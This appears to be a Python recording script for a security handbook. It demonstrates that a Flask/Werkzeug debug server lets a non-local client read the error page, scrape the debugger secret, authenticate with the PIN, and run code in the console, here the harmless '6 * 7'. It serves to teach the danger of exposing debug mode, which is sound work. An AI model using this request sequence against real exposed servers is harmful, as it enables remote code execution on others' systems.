"""What the debugger of ``flask run --debug`` does for a client that is not its owner.

The client connects from 127.0.0.2, as a stranger would from another address.  It
writes one name or the other into ``Host``, which is all that the debugger looks at.
"""

import json
import re
from collections.abc import Iterator
from urllib.parse import urlencode

from handbook.record.connections import connect
from handbook.record.programs import Program
from handbook.record.recorder import Recorder

HOSTS = ("evil.example", "localhost")
COMMAND = "flask --app broken run --debug --port {port}"
STARTED = "Debugger PIN: "
SHOWN_PIN = "123-456-789"
WRONG_PIN = "000-000-000"


def record(recorder: Recorder) -> None:
    """Attack the debugger with each name; then find its PIN without its terminal."""
    recorder.uses("Flask", "Werkzeug")
    port = recorder.port(5000)
    command = COMMAND.format(port=port)
    with recorder.start(command, port=port, until=STARTED) as server:
        first = pin(server)
        columns = [list(attack(port, host, first)) for host in HOSTS]
    rows = [("the client", *(f"Host: {host}" for host in HOSTS))]
    for answers in zip(*columns, strict=True):
        rows.append((answers[0][0], *(answer for _, answer in answers)))
    show(recorder, "hosts", rows, label="From another address, 127.0.0.2")
    with recorder.start(command, port=port, until=STARTED) as server:
        second = pin(server)
    computed = recorder.finish("python compute_pin.py").strip()
    recorder.shown_as(first, SHOWN_PIN)
    rows = [
        ("what says it", "PIN"),
        ("flask run --debug", first),
        ("the same, started again", second),
        ("python compute_pin.py", computed),
    ]
    show(recorder, "pin", rows, label="The PIN, three times")


def show(
    recorder: Recorder, name: str, rows: list[tuple[str, ...]], *, label: str
) -> None:
    """Show rows of cells as a table."""
    recorder.show(name, "table", "\n".join(map("\t".join, rows)), label=label)


def pin(server: Program) -> str:
    """Return the PIN that the server printed."""
    return server.log().partition(STARTED)[2].split()[0]


def attack(port: int, host: str, right: str) -> Iterator[tuple[str, str]]:
    """Yield what the client does, and what comes of it."""
    _, page = ask(port, host, "/")
    shown = "do-not-show-me" in page
    yield "reads the error page", "it shows the code" if shown else "no code"
    console = "EVALEX = true" in page
    yield "looks for the console", "it is there" if console else "it is not there"
    secret = re.findall(r'SECRET = "(\w+)"', page)[0]
    frame = re.findall(r'id="frame-(\d+)"', page)[-1]
    cookie = ""
    for name, tried in (("a wrong PIN", WRONG_PIN), ("the right PIN", right)):
        head, content = ask(port, host, command(secret, cmd="pinauth", pin=tried))
        cookie = "".join(re.findall(r"^Set-Cookie: ([^;]+)", head, re.MULTILINE))
        yield f"sends {name}", verdict(head, content)
    _, content = ask(port, host, command(secret, cmd="6 * 7", frm=frame), cookie)
    yield (
        "sends the code 6 * 7",
        "it runs: 42" if ">42<" in content else "it does not run",
    )


def command(secret: str, **values: str) -> str:
    """Return the request target of a command to the debugger."""
    return f"/?{urlencode({'__debugger__': 'yes', 's': secret, **values})}"


def verdict(head: str, content: str) -> str:
    """Return the status line, and whether the PIN was accepted."""
    status = head.partition("\r\n")[0].removeprefix("HTTP/1.1 ")
    if not status.startswith("200"):
        return status
    return f"{status}, {'accepted' if json.loads(content)['auth'] else 'rejected'}"


def ask(port: int, host: str, target: str, cookie: str = "") -> tuple[str, str]:
    """Return the head and the content of the response to a stranger's request."""
    lines = (
        f"GET {target} HTTP/1.1",
        f"Host: {host}:{port}",
        f"Cookie: {cookie}",
        "Connection: close",
    )
    with connect(port, source="127.0.0.2") as connection:
        connection.sendall(("\r\n".join(lines) + "\r\n\r\n").encode())
        raw = b"".join(iter(lambda: connection.recv(65536), b""))
    head, _, content = raw.decode().partition("\r\n\r\n")
    return head, content
